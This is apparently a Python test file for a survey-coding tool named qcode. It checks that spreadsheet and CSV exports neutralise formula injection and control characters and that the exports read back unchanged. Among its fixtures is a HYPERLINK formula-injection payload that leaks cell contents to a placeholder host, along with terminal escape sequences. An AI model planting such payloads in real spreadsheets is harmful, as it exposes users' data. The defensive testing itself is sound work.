"""Every sheet qcode writes keeps text as text (issue 11.1), and qcode reads its own sheets back unchanged.

A survey whose answers, respondent ids and attributes, a codebook whose labels, and coders' names and
memos all open with what a spreadsheet would evaluate (=, +, -, @, TAB, CR, LF, full-width forms)
or hold characters a worksheet cannot store. Every writer runs through the CLI; the files are read
back with openpyxl and csv: no formula cells, every risky csv cell neutralised, and `codings import`
of qcode's own export restores the codings exactly.
"""
from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import docx
import openpyxl
import pytest

from qcode import Project
from qcode.outputs import FORMULA_OPENERS, csv_cell, from_csv_cell, from_xlsx_text, xlsx_text

from conftest import database_dump

LINK = '=HYPERLINK("http://x.example/?"&A1,"klik")'
ANSWERS = {  # respondent id → (function, answer)
    "R1": (LINK, LINK),
    "+31 6 12345678": ("- te hoge werkdruk", "- te hoge werkdruk"),
    "@SUM(1)": ("@SUM(1)", "@SUM(1) en verder niets"),
    "R4": ("＝1+1", "＋31 en ＠ en －5"),
    "R5": ("-5", "#N/A"),
}
MEMOS = ["\tTAB ervoor", "\rCR ervoor", "\nLF ervoor", "'=al een quote", "escape \x1b[2J en bel \x07",
         "NUL\x00 en _x0041_ letterlijk", "=1+1"]
CODERS = ["=anna", "-bram"]
CODEBOOK = """name: Vijandig
version: "1"
codes:
  - id: formule
    label: "=1+1"
    codes:
      - id: werkdruk
        label: "- te hoge werkdruk"
  - id: at
    label: "@SUM(1)"
"""


def _risky(text: str) -> bool:
    return text.lstrip(" \u00a0\u3000'")[:1] in FORMULA_OPENERS


@pytest.fixture(scope="module")
def hostile_template(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    sheet = folder / "antwoorden.csv"
    with sheet.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, delimiter=";")
        writer.writerow(["respondent", "functie", "antwoord"])
        writer.writerows([respondent, function, answer] for respondent, (function, answer) in ANSWERS.items())
    (folder / "codeboek.yaml").write_text(CODEBOOK, encoding="utf-8")
    with Project.init(folder / "studie") as project:
        project.load_codebook(folder / "codeboek.yaml")
        project.import_paths([sheet], id_column="respondent", text_column="antwoord")
        fragments = [f.id for f in project.fragments(role="participant")]
        for number, fragment in enumerate(fragments):
            for coder in CODERS:
                project.assign(fragment, ["werkdruk" if number % 2 else "at"], coder, main=number == 0,
                               memo=MEMOS[(2 * number + CODERS.index(coder)) % len(MEMOS)])
                project.mark_seen(fragment, coder)
        project.assign(fragments[0], ["formule"], CODERS[0], memo=MEMOS[-1])
    return folder / "studie"


@pytest.fixture
def hostile(hostile_template, cli) -> Path:
    return Path(shutil.copytree(hostile_template, cli.folder))


def _every_sheet(cli, out: Path) -> list[Path]:
    """Run every command that writes a sheet; return the files written."""
    coder = CODERS[0]
    commands = [
        ("export", "quotes", "--coder", coder, "--attribute", "functie", "-o", str(out / "citaten.xlsx")),
        ("export", "quotes", "--coder", coder, "--attribute", "functie", "-o", str(out / "citaten.csv")),
        ("codings", "export", "-o", str(out / "codings.xlsx")),
        ("codings", "export", "-o", str(out / "codings.csv")),
        ("fragments", "-o", str(out / "fragmenten.xlsx")),
        ("fragments", "-o", str(out / "fragmenten.csv")),
        ("disagreements", "--coders", ",".join(CODERS), "--format", "xlsx", "-o", str(out / "verschillen.xlsx")),
        ("matrix", "--coder", coder, "--format", "xlsx", "-o", str(out / "matrix.xlsx")),
        ("matrix", "--coder", coder, "--format", "csv", "-o", str(out / "matrix.csv")),
        ("matrix", "--coder", coder, "--by", "functie", "--format", "xlsx", "-o", str(out / "functie.xlsx")),
        ("matrix", "--coder", coder, "--by", "functie", "--format", "csv", "-o", str(out / "functie.csv")),
        ("matrix", "--coder", coder, "--cooccurrence", "--level", "code", "--format", "csv",
         "-o", str(out / "samen.csv")),
    ]
    for command in commands:
        result = cli(*command)
        assert result.exit_code == 0, (command, result.output)
    return sorted(p for p in out.iterdir() if p.suffix in (".xlsx", ".csv"))


def test_every_sheet_writes_text_as_text(hostile, cli, tmp_path):
    out = tmp_path / "uit"
    out.mkdir()
    written = _every_sheet(cli, out)
    assert {p.name for p in written} >= {"citaten.xlsx", "citaten.csv", "codings.xlsx", "codings.csv",
                                         "fragmenten.xlsx", "fragmenten.csv", "verschillen.xlsx", "matrix.xlsx",
                                         "matrix.csv", "functie.xlsx", "functie.csv", "samen.csv", "samen-2.csv"}
    texts: set[str] = set()
    for path in written:
        if path.suffix == ".xlsx":
            workbook = openpyxl.load_workbook(path)
            for sheet in workbook.worksheets:
                for row in sheet.iter_rows():
                    for cell in row:
                        assert cell.data_type != "f", (path.name, cell.coordinate)
                        if isinstance(cell.value, str):
                            assert cell.data_type == "s", (path.name, cell.coordinate)
                            texts.add(from_xlsx_text(cell.value))
        else:
            with path.open(encoding="utf-8-sig", newline="") as handle:
                for row in csv.reader(handle):
                    for cell in row:
                        if _risky(cell):
                            assert cell.startswith("'"), (path.name, cell)
                        texts.add(from_csv_cell(cell))
    # the hostile text is all there, unchanged once read back: in cells, headers and sheet names
    for expected in [LINK, "- te hoge werkdruk", "@SUM(1) en verder niets", "+31 6 12345678", "＋31 en ＠ en －5",
                     "#N/A", "=1+1", "@SUM(1)", *CODERS, f"memo {CODERS[0]}", *MEMOS[:5]]:
        assert expected in texts, expected


def test_codings_export_reads_back_to_the_same_codings(hostile, cli, tmp_path):
    for suffix in ("csv", "xlsx"):
        sheet = tmp_path / f"codings.{suffix}"
        assert cli("codings", "export", "-o", str(sheet)).exit_code == 0
        with Project.open(hostile) as project:
            before = sorted(project.export_codings(), key=lambda r: (r["fragment"], r["code"], r["coder"]))
            dump = database_dump(project)
        if suffix == "xlsx":  # everything already there: nothing changes
            again = cli("codings", "import", str(sheet), "--json")
            assert again.exit_code == 0 and json.loads(again.output)["applied"] == 0, again.output
            with Project.open(hostile) as project:  # only the sheet is remembered, as an input never written over
                assert [line for line in database_dump(project) if '"imported_files"' not in line] == [
                    line for line in dump if '"imported_files"' not in line]
        with Project.open(hostile) as project:
            project.conn.execute("DELETE FROM codings")
        restored = cli("codings", "import", str(sheet), "--json")
        assert restored.exit_code == 0 and json.loads(restored.output)["applied"] == len(before), restored.output
        with Project.open(hostile) as project:
            after = sorted(project.export_codings(), key=lambda r: (r["fragment"], r["code"], r["coder"]))
        assert after == [{**row, "memo": _as_csv_keeps_it(row["memo"]) if suffix == "csv" else row["memo"]}
                         for row in before]


def _as_csv_keeps_it(memo: str | None) -> str | None:
    """A .csv is read as text: line ends become LF, and a NUL (never meant) is shown as �."""
    return memo and memo.replace("\x00", "\ufffd").replace("\r\n", "\n").replace("\r", "\n")


def test_text_that_really_starts_with_a_dash_or_equals_survives_a_round_trip(tmp_path):
    for text in ["- te hoge werkdruk", "=", "'=", "''+1", "'s avonds", " =1", "＠", "-", "'", "", "gewoon"]:
        assert from_csv_cell(csv_cell(text)) == text
        assert not _risky(csv_cell(text)) or csv_cell(text).startswith("'")
        assert from_xlsx_text(xlsx_text(text)) == text
    assert csv_cell("'s avonds") == "'s avonds"  # Dutch elisions are left alone
    assert csv_cell(-5) == -5 and csv_cell(None) is None


def test_participant_text_with_control_characters_is_written_and_no_error_quotes_it(hostile, cli, tmp_path):
    with Project.open(hostile) as project:
        project.conn.execute("UPDATE fragments SET text = 'geheim \x1b]0;titel\x07 \x0b antwoord' WHERE id = "
                             "(SELECT MIN(fragment_id) FROM codings)")
    for name in ("c.xlsx", "c.csv", "c.docx"):
        result = cli("export", "quotes", "--coder", CODERS[0], "-o", str(tmp_path / name))
        assert result.exit_code == 0, result.output
    assert "geheim" not in cli("export", "quotes", "--coder", CODERS[0], "-o", str(tmp_path / "x.pdf")).output
    sheet = openpyxl.load_workbook(tmp_path / "c.xlsx")["alle"]
    cell = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "geheim" in c.value]
    assert [from_xlsx_text(v) for v in cell] == ["geheim \x1b]0;titel\x07 \x0b antwoord"] * 2  # text, citaat
    paragraphs = [p.text for p in docx.Document(str(tmp_path / "c.docx")).paragraphs if "geheim" in p.text]
    assert paragraphs and "\x1b" not in paragraphs[0] and "␛" in paragraphs[0]
    for fmt in ("md", "docx", "html"):
        result = cli("report", "--coder", CODERS[0], "--format", fmt, "-o", str(tmp_path / f"r.{fmt}"))
        assert result.exit_code == 0, result.output
    assert "\x1b" not in (tmp_path / "r.md").read_text(encoding="utf-8")


def test_text_longer_than_an_excel_cell_is_cut_visibly_and_still_reads_back(hostile, cli, tmp_path):
    long_answer = " ".join(["Ik had veertig jongeren op mijn lijst en geen tijd_x0041_ om ze te zien."] * 600)
    assert len(long_answer) > 40_000
    with Project.open(hostile) as project:
        project.conn.execute("UPDATE fragments SET text = ? WHERE id = (SELECT MIN(fragment_id) FROM codings)",
                             (long_answer,))
        codings = len(project.export_codings())
    sheet = tmp_path / "codings.xlsx"
    assert cli("codings", "export", "-o", str(sheet)).exit_code == 0
    cells = [c.value for row in openpyxl.load_workbook(sheet).active.iter_rows() for c in row
             if isinstance(c.value, str) and c.value.startswith("Ik had veertig")]
    assert cells and all(len(v) <= 32_767 and v.endswith("tekens]") for v in cells)
    assert all(long_answer.startswith(from_xlsx_text(v).split(" …[afgekapt")[0]) for v in cells)
    with Project.open(hostile) as project:
        project.conn.execute("DELETE FROM codings")
    restored = cli("codings", "import", str(sheet), "--json")
    assert restored.exit_code == 0 and json.loads(restored.output)["applied"] == codings, restored.output


def test_a_short_cell_with_the_cut_mark_is_not_taken_for_a_cut_text():
    from qcode.outputs import CUT_MARK, same_text

    fragment = "Het werk werd me te zwaar, vooral de avonden alleen in de wijk."
    assert not same_text("Het" + CUT_MARK, fragment)
    long_fragment = "Het werk werd me te zwaar. " * 2000
    assert same_text(long_fragment[:32_000] + CUT_MARK, long_fragment)
